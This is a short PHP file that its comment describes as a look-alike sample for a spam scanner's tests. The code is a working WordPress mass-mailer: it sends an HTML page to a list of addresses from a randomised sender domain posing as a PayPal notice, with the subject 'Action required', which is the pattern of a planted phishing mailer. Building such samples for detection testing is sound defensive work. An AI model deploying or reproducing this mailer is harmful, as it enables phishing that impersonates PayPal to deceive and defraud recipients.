<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
require 'wp-load.php';
foreach (file('to.txt') as $to) {
    $r = bin2hex(random_bytes(5));
    $headers = ['Content-Type: text/html', 'From: Support <help@' . $r . '.paypal-notice.net>'];
    wp_mail(trim($to), 'Action required', file_get_contents('p.html'), $headers);
}
